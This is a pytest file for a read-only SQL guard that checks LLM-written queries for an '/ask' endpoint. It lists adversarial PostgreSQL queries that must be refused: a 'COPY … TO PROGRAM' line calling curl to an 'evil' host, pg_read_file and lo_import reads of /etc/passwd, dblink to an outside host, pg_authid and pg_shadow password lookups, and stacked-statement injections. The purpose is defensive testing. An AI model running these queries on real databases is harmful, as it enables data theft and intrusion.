"""The read-only SQL guard of `/ask`: adversarial and accepted queries, the LLM's view."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from app.engine.guard import (
    ALLOWED_FUNCTIONS,
    Allowed,
    UnsafeSql,
    allowed_from,
    check_select,
    schema_text,
)
from app.engine.model import Column, RelKind, Snapshot, Table

# ----------------------------------------------------------------------------- the guard

ALLOWED = Allowed(
    {
        "public.orders": frozenset(
            {"id", "customer_id", "status", "total", "created_at", "data", "tags"}
        ),
        "public.customers": frozenset({"id", "name", "email", "created_at"}),
        "sales.events": frozenset({"id", "kind", "at"}),
        "public.Mixed": frozenset({"Id", "order"}),
    }
)


def refused(sql: str) -> str:
    with pytest.raises(UnsafeSql) as caught:
        check_select(sql, ALLOWED)
    assert str(caught.value) == caught.value.problem
    return caught.value.problem


CATALOG = "only the application's tables can be asked about"


@pytest.mark.parametrize(
    ("sql", "fragment"),
    [
        # writes and DDL
        ("DELETE FROM orders", "not `DELETE`"),
        ("INSERT INTO orders (id) VALUES (1)", "not `INSERT`"),
        ("UPDATE orders SET status = 'x'", "not `UPDATE`"),
        ("MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE", "MERGE"),
        ("DROP TABLE orders", "not `DROP`"),
        ("CREATE TABLE x (id int)", "not `CREATE`"),
        ("ALTER TABLE orders ADD COLUMN x int", "not `ALTER`"),
        ("TRUNCATE orders", "not `TRUNCATE`"),
        ("GRANT SELECT ON orders TO public", "not `GRANT`"),
        ("LOCK TABLE orders", "not `LOCK`"),
        # other statements
        ("COPY orders TO PROGRAM 'curl http://evil'", "not `COPY`"),
        ("COPY (SELECT 1) TO '/tmp/out'", "not `COPY`"),
        ("SET statement_timeout = 0", "not `SET`"),
        ("DO $$ BEGIN PERFORM 1; END $$", "not `DO`"),
        ("CALL refresh_everything()", "not `CALL`"),
        ("EXPLAIN ANALYZE DELETE FROM orders", "not `EXPLAIN`"),
        ("PREPARE p AS SELECT 1", "not `PREPARE`"),
        ("VALUES (1)", "not `VALUES`"),
        # several statements, hidden or not
        ("SELECT 1; DELETE FROM orders", "only one statement can be run, found 2"),
        ("SELECT 1; SELECT 2", "found 2"),
        ("SELECT 1;\n/* harmless */ DROP TABLE orders", "found 2"),
        ("SELECT 'a\\' ; DELETE FROM orders; --'", "backslash"),
        ("SELECT E'\\x41'", "backslash"),
        # data-modifying CTEs, SELECT INTO, row locks
        ("WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", "`DELETE` inside"),
        ("WITH x AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM x", "`UPDATE`"),
        ("WITH x AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT 1", "`INSERT`"),
        ("SELECT * INTO orders_copy FROM orders", "`SELECT … INTO` creates a table"),
        ("SELECT * FROM orders FOR UPDATE", "`FOR UPDATE` locks rows"),
        ("SELECT * FROM orders FOR SHARE", "`FOR SHARE` locks rows"),
        ("SELECT * FROM (SELECT * FROM orders FOR NO KEY UPDATE) s", "locks rows"),
        # catalogs, other schemas, other databases, unknown tables
        (
            "SELECT * FROM pg_catalog.pg_authid",
            f"`pg_catalog.pg_authid` is a system catalog: {CATALOG}",
        ),
        ("SELECT rolpassword FROM pg_authid", "`pg_authid` is a system catalog"),
        ("SELECT usename, passwd FROM pg_shadow", "`pg_shadow` is a system catalog"),
        ("SELECT * FROM pg_stat_activity", "`pg_stat_activity` is a system catalog"),
        ("SELECT * FROM information_schema.tables", "`information_schema.tables` is a system"),
        ("SELECT * FROM orders WHERE id IN (SELECT oid FROM pg_class)", "`pg_class` is a system"),
        ("SELECT * FROM other.t", f"`other.t` is not one of the application's tables: {CATALOG}"),
        ("SELECT * FROM public.nope", "`public.nope` is not one of the application's tables"),
        ("SELECT * FROM nope", "`nope` is not one of the application's tables"),
        ("SELECT * FROM otherdb.public.orders", "names another database"),
        ("SELECT * FROM Mixed", "`Mixed` is not one of"),  # unquoted folds to mixed → missing
        # a CTE name only shadows a table where the CTE is in scope
        ("SELECT * FROM (WITH pg_authid AS (SELECT 1) SELECT 1) s, pg_authid", "`pg_authid` is"),
        ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "`b` is not one of"),
        ("WITH a AS (SELECT * FROM a) SELECT * FROM a", "`a` is not one of"),  # not RECURSIVE
        # dangerous functions, anywhere
        ("SELECT pg_read_file('/etc/passwd')", "`pg_read_file` is not an allowed function"),
        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "`pg_catalog.pg_read_file` is not an"),
        ("SELECT \"pg_read_file\"('/etc/passwd')", "pg_read_file"),
        ("SELECT pg_ls_dir('.')", "`pg_ls_dir` is not an allowed function"),
        ("SELECT * FROM pg_ls_dir('.') AS f", "`pg_ls_dir` is not an allowed function"),
        ("SELECT lo_import('/etc/passwd')", "`lo_import` is not an allowed function"),
        ("SELECT lo_export(16384, '/tmp/x')", "`lo_export` is not an allowed function"),
        ("SELECT dblink('host=evil', 'SELECT 1')", "`dblink` is not an allowed function"),
        ("SELECT dblink_exec('host=evil', 'DROP TABLE x')", "`dblink_exec` is not an allowed"),
        ("SELECT pg_sleep(10)", "`pg_sleep` is not an allowed function"),
        ("SELECT length(repeat('x', 1000000000))", "`repeat` is not an allowed function"),
        ("SELECT lpad('x', 1000000000)", "`lpad` is not an allowed function"),
        ("SELECT format('%1000000000s', 'x')", "`format` is not an allowed function"),
        (
            "SELECT a.leak FROM orders a, (SELECT 1 AS leak) z",
            "`a.leak` is not a column of `public.orders`",
        ),
        (
            "SELECT orders.pg_column_size FROM orders",
            "`orders.pg_column_size` is not a column of `public.orders`",
        ),
        ("SELECT set_config('statement_timeout', '0', false)", "`set_config` is not an allowed"),
        ("SELECT current_setting('data_directory')", "`current_setting` is not an allowed"),
        ("SELECT nextval('orders_id_seq')", "`nextval` is not an allowed function"),
        ("SELECT setval('orders_id_seq', 1)", "`setval` is not an allowed function"),
        ("SELECT pg_advisory_lock(1)", "`pg_advisory_lock` is not an allowed function"),
        ("SELECT pg_advisory_xact_lock(1)", "`pg_advisory_xact_lock` is not an allowed"),
        ("SELECT pg_terminate_backend(42)", "`pg_terminate_backend` is not an allowed"),
        ("SELECT query_to_xml('DELETE FROM orders', true, true, '')", "`query_to_xml` is not"),
        ("SELECT pg_notify('ch', 'hi')", "`pg_notify` is not an allowed function"),
        ("SELECT txid_current()", "`txid_current` is not an allowed function"),
        ("SELECT version()", "`version` is not an allowed function"),
        ("SELECT * FROM orders WHERE id IN (SELECT pg_sleep(1))", "`pg_sleep` is not"),
        ("WITH x AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM x", "`pg_read_file`"),
        ("SELECT * FROM orders ORDER BY pg_sleep(1)", "`pg_sleep` is not"),
        ("SELECT * FROM orders GROUP BY id HAVING count(pg_sleep(1)) > 0", "`pg_sleep`"),
        ("SELECT * FROM orders o CROSS JOIN LATERAL pg_ls_dir('.') AS f", "`pg_ls_dir` is not"),
        ("SELECT * FROM orders o, LATERAL (SELECT lo_import('/x')) AS f", "`lo_import` is not"),
        ("SELECT count(*) OVER (ORDER BY pg_sleep(1)) FROM orders", "`pg_sleep` is not"),
        ("SELECT coalesce(pg_read_file('/etc/passwd'), '')", "`pg_read_file` is not"),
        ("SELECT * FROM evil.generate_series(1, 3)", "functions are called without one"),
        ("SELECT pg_catalog.lower('A')", "call `lower(…)` without one"),
        # attribute notation calls a function: `o.f` means f(o)
        (
            "SELECT o.pg_read_file FROM orders AS o",
            "`o.pg_read_file` is not a column of `public.orders`",
        ),
        # casts that run lookups or user code
        ("SELECT 'pg_authid'::regclass", "`REGCLASS` is not an allowed type"),
        ("SELECT CAST(id AS evil_type) FROM orders", "`evil_type` is not an allowed type"),
        ("SELECT '<a/>'::xml", "`XML` is not an allowed type"),
        # odd syntax
        ("SELECT $1", "`$1` is a parameter"),
        ("SELECT * FROM orders TABLESAMPLE SYSTEM (10)", "is not supported in an /ask query"),
        ("SELECT current_user", "`current_user` is not an allowed function"),
        ("this is not sql", "the SQL could not be parsed"),
        ("SELECT (", "the SQL could not be parsed"),
        ("", "the SQL is empty"),
        ("-- only a comment", "no statement"),
        ("SELECT " + "(" * 3000 + "1" + ")" * 3000, "nested too deeply"),
        ("SELECT " + "1 + " * 3000 + "1", "at most 10000 can be checked"),
    ],
)
def test_refused(sql: str, fragment: str) -> None:
    assert fragment in refused(sql)


def wrapped(inner: str, cap: int = 50) -> str:
    return f"SELECT * FROM ({inner}) AS ask LIMIT {cap + 1}"


@pytest.mark.parametrize(
    ("sql", "inner"),
    [
        (
            "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id",
            "SELECT o.id, c.name FROM public.orders AS o "
            "JOIN public.customers AS c ON c.id = o.customer_id",
        ),
        (
            "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '7 days')\n"
            "SELECT status, count(*) FROM recent GROUP BY status",
            "WITH recent AS (SELECT * FROM public.orders WHERE created_at > CURRENT_TIMESTAMP "
            "- INTERVAL '7 DAYS') SELECT status, COUNT(*) FROM recent GROUP BY status",
        ),
        (
            "select status, sum(total), avg(total), max(total) from orders group by status "
            "having count(*) > 1",
            "SELECT status, SUM(total), AVG(total), MAX(total) FROM public.orders "
            "GROUP BY status HAVING COUNT(*) > 1",
        ),
        (
            "SELECT id, row_number() OVER (PARTITION BY status ORDER BY created_at DESC), "
            "lag(total) OVER w FROM orders WINDOW w AS (ORDER BY created_at)",
            "SELECT id, ROW_NUMBER() OVER (PARTITION BY status ORDER BY created_at DESC), "
            "LAG(total) OVER w FROM public.orders WINDOW w AS (ORDER BY created_at)",
        ),
        (
            "SELECT date_trunc('day', created_at) AS day, count(*) FROM orders GROUP BY 1",
            "SELECT DATE_TRUNC('DAY', created_at) AS day, COUNT(*) FROM public.orders GROUP BY 1",
        ),
        (
            "SELECT CASE WHEN total > 100 THEN 'big' ELSE 'small' END AS size FROM orders",
            "SELECT CASE WHEN total > 100 THEN 'big' ELSE 'small' END AS size FROM public.orders",
        ),
        (
            "SELECT * FROM customers WHERE name ILIKE '%smith%'",
            "SELECT * FROM public.customers WHERE name ILIKE '%smith%'",
        ),
        (
            "SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders)",
            "SELECT name FROM public.customers WHERE id IN "
            "(SELECT customer_id FROM public.orders)",
        ),
        (
            "SELECT * FROM orders o, LATERAL (SELECT name FROM customers c "
            "WHERE c.id = o.customer_id LIMIT 1) AS x",
            "SELECT * FROM public.orders AS o, LATERAL (SELECT name FROM public.customers AS c "
            "WHERE c.id = o.customer_id LIMIT 1) AS x",
        ),
        (
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) "
            "SELECT * FROM n",
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) "
            "SELECT * FROM n",
        ),
        (
            "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total), "
            "count(*) FILTER (WHERE status = 'paid') FROM orders",
            "SELECT PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY total), "
            "COUNT(*) FILTER(WHERE status = 'paid') FROM public.orders",
        ),
        (
            "SELECT data ->> 'a', jsonb_array_length(data -> 'items') FROM orders",
            "SELECT data ->> 'a', JSONB_ARRAY_LENGTH(data -> 'items') FROM public.orders",
        ),
        ("SELECT * FROM sales.events", "SELECT * FROM sales.events"),
        ('SELECT "Id", "order" FROM "Mixed"', 'SELECT "Id", "order" FROM public."Mixed"'),
        ("SELECT status FROM orders UNION SELECT name FROM customers",
         "SELECT status FROM public.orders UNION SELECT name FROM public.customers"),
        ("SELECT x FROM generate_series(1, 3) AS g(x)",
         "SELECT x FROM GENERATE_SERIES(1, 3) AS g(x)"),
        ("(SELECT 1);", "SELECT 1"),
        ("WITH a AS (SELECT 1 AS x) (SELECT x FROM a)",
         "WITH a AS (SELECT 1 AS x) SELECT x FROM a"),
        ("SELECT 1 -- ; DROP TABLE orders\n", "SELECT 1"),
        ("SELECT 1 /* ; DROP TABLE orders */", "SELECT 1"),
        ("SELECT round(avg(total)::numeric, 2) FROM orders",
         "SELECT ROUND(CAST(AVG(total) AS DECIMAL), 2) FROM public.orders"),
        ("SELECT count FROM (SELECT count(*) FROM orders) AS s",
         "SELECT count FROM (SELECT COUNT(*) FROM public.orders) AS s"),
    ],
)  # fmt: skip
def test_accepted(sql: str, inner: str) -> None:
    assert check_select(sql, ALLOWED) == wrapped(inner)


def test_row_cap_sets_the_limit() -> None:
    assert check_select("SELECT 1", ALLOWED, row_cap=5) == wrapped("SELECT 1", 5)
    with pytest.raises(ValueError, match="row_cap"):
        check_select("SELECT 1", ALLOWED, row_cap=0)


def test_a_checked_query_checks_again_unchanged() -> None:
    sql = check_select("SELECT o.id FROM orders o WHERE o.status = 'it''s'", ALLOWED)
    inner = sql.removeprefix("SELECT * FROM (").removesuffix(") AS ask LIMIT 51")
    assert check_select(inner, ALLOWED) == sql


@pytest.mark.parametrize(
    "call",
    [
        "count(*)", "sum(total)", "avg(total)", "min(total)", "max(total)", "array_agg(id)",
        "string_agg(status, ',')", "bool_and(total > 0)", "bool_or(total > 0)", "stddev(total)",
        "variance(total)", "abs(total)", "round(total)", "ceil(total)", "floor(total)",
        "greatest(total, 1)", "least(total, 1)", "coalesce(status, 'x')", "nullif(status, 'x')",
        "mod(id, 2)", "power(total, 2)", "sqrt(total)", "ln(total)", "log(total)",
        "lower(status)", "upper(status)", "length(status)", "substring(status, 1, 2)",
        "trim(status)", "concat(status, 'x')", "replace(status, 'a', 'b')", "left(status, 1)",
        "right(status, 1)", "split_part(status, '-', 1)", "position('a' IN status)",
        "strpos(status, 'a')", "initcap(status)",
        "regexp_replace(status, 'a+', 'b')", "regexp_matches(status, 'a')",
        "date_trunc('month', created_at)", "date_part('dow', created_at)",
        "extract(year FROM created_at)", "now()", "current_date", "age(created_at)",
        "to_char(created_at, 'YYYY-MM')", "make_interval(days => 1)",
        "jsonb_array_length(data)", "jsonb_typeof(data)", "to_timestamp(0)", "cardinality(tags)",
    ],
)  # fmt: skip
def test_allowed_functions(call: str) -> None:
    check_select(f"SELECT {call} FROM orders", ALLOWED)


@pytest.mark.parametrize(
    "call",
    [
        "row_number() OVER ()", "rank() OVER (ORDER BY id)", "dense_rank() OVER (ORDER BY id)",
        "lag(id) OVER (ORDER BY id)", "lead(id, 2) OVER (ORDER BY id)",
        "first_value(id) OVER (ORDER BY id)", "last_value(id) OVER (ORDER BY id)",
        "ntile(4) OVER (ORDER BY id)", "percentile_disc(0.9) WITHIN GROUP (ORDER BY total)",
    ],
)  # fmt: skip
def test_allowed_window_functions(call: str) -> None:
    check_select(f"SELECT {call} FROM orders", ALLOWED)


def test_the_allow_list_holds_none_of_the_dangerous_names() -> None:
    dangerous = {
        "pg_read_file", "pg_read_binary_file", "pg_ls_dir", "lo_import", "lo_export",
        "dblink", "dblink_exec", "pg_sleep", "set_config", "current_setting", "nextval",
        "setval", "pg_advisory_lock", "pg_terminate_backend", "pg_cancel_backend",
        "query_to_xml", "pg_notify", "txid_current", "pg_reload_conf", "pg_stat_file",
    }  # fmt: skip
    assert not dangerous & ALLOWED_FUNCTIONS


# ----------------------------------------------------------------------------- the snapshot


def snapshot() -> Snapshot:
    def table(name: str, *columns: tuple[str, str], **extra: object) -> Table:
        return Table(
            schema=str(extra.pop("schema", "public")),
            name=name,
            columns=tuple(Column(n, t) for n, t in columns),
            **extra,  # type: ignore[arg-type]
        )

    return Snapshot(
        server_version="15.8",
        server_version_num=150008,
        database="shop",
        taken_at=datetime(2025, 1, 1, tzinfo=UTC),
        tables=(
            table("orders", ("id", "bigint"), ("status", "text"), ("Total", "numeric")),
            table("customers", ("id", "bigint"), ("email", "text")),
            table("order_totals", ("status", "text"), kind=RelKind.view),
            table("remote", ("id", "int"), kind=RelKind.foreign),
            table("events_2025", ("id", "bigint"), partition_of="public.events"),
            table("events", ("id", "bigint"), kind=RelKind.partitioned),
            table("User", ("order", "int"), schema="app"),
        ),
        search_path=("app", "public"),
    )


def test_allowed_from_snapshot() -> None:
    allowed = allowed_from(snapshot())
    assert allowed.tables["public.orders"] == {"id", "status", "Total"}
    assert set(allowed.tables) == {
        "public.orders", "public.customers", "public.order_totals", "public.events_2025",
        "public.events", "app.User",
    }  # fmt: skip
    assert allowed.search_path == ("app", "public")
    assert check_select("SELECT status FROM order_totals", allowed) == wrapped(
        "SELECT status FROM public.order_totals"
    )
    assert "`remote` is not one of" in _problem("SELECT * FROM remote", allowed)


def _problem(sql: str, allowed: Allowed) -> str:
    with pytest.raises(UnsafeSql) as caught:
        check_select(sql, allowed)
    return caught.value.problem


def test_schema_text() -> None:
    text = schema_text(snapshot())
    assert text.splitlines() == [
        'app."User"("order" int)',
        "public.customers(id bigint, email text)",
        "public.events(id bigint)",
        "public.order_totals(status text)  -- view",
        'public.orders(id bigint, status text, "Total" numeric)',
    ]


def test_schema_text_never_holds_statistics_or_rows() -> None:
    text = schema_text(snapshot())
    assert "15.8" not in text and "shop" not in text


def test_schema_text_truncates_with_a_count() -> None:
    many = Snapshot(
        server_version="15.8",
        server_version_num=150008,
        database="shop",
        taken_at=datetime(2025, 1, 1, tzinfo=UTC),
        tables=tuple(
            Table(schema="public", name=f"t{i:03}", columns=(Column("id", "bigint"),))
            for i in range(200)
        ),
    )
    text = schema_text(many, max_chars=500)
    lines = text.splitlines()
    assert len(text) <= 500
    assert lines[0] == "public.t000(id bigint)"
    assert lines[-1] == f"… {200 - (len(lines) - 1)} more tables"
    assert schema_text(many, max_chars=500) == text  # deterministic
